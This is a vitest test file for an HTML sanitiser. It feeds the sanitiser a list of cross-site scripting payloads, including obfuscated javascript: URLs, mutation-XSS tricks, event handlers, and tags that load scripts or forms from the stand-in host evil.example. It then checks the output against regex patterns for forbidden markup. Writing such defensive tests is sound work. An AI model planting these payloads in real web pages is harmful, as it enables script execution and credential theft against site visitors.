import { expect, test } from 'vitest'
import { sanitiseHtml } from './sanitise'

const HOSTILE = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="#" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p onmouseover=alert(1)>x</p>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<template><script>alert(1)</script></template>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<textarea><script>alert(1)</script></textarea>',
  '<xmp><script>alert(1)</script></xmp>',
  '<!--><script>alert(1)</script-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p id="__next" class="admin" name="cookie">x</p>',
  `${'<p>'.repeat(5_000)}deep`,
]

/** Patterns that no sanitised text may contain: a tag or attribute that is not allowed, a URL that runs code. */
const FORBIDDEN = [
  /<(?!\/?(?:h2|h3|h4|p|a|ul|ol|li|strong|em|b|i|br|blockquote|table|thead|tbody|tr|th|td|hr)\b)[a-z!/?]/i,
  /<[^>]*\son\w+\s*=/i,
  /<[^>]*\s(?:style|src|srcdoc|id|class|name|formaction)\s*=/i,
  /href="(?!(?:https?:|mailto:|tel:|\/(?!\/)|#|[^":/]*"))/i,
]

test.each(HOSTILE)('%s leaves nothing that runs', (html) => {
  const clean = sanitiseHtml(html)
  for (const pattern of FORBIDDEN) expect(clean).not.toMatch(pattern)
  expect(sanitiseHtml(clean)).toBe(clean)
})

test('what an operator writes stays as it is', () => {
  const html =
    '<h2>Visa</h2><p>See <a href="https://www.evisa.gov.tr">e-visa</a>, <a href="/c/terms">terms</a> or <a href="mailto:a@b.example">us</a>.</p><table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1 &lt; 2 &amp; 3</td></tr></tbody></table><ul><li><strong>x</strong></li></ul>'
  expect(sanitiseHtml(html)).toBe(html)
})
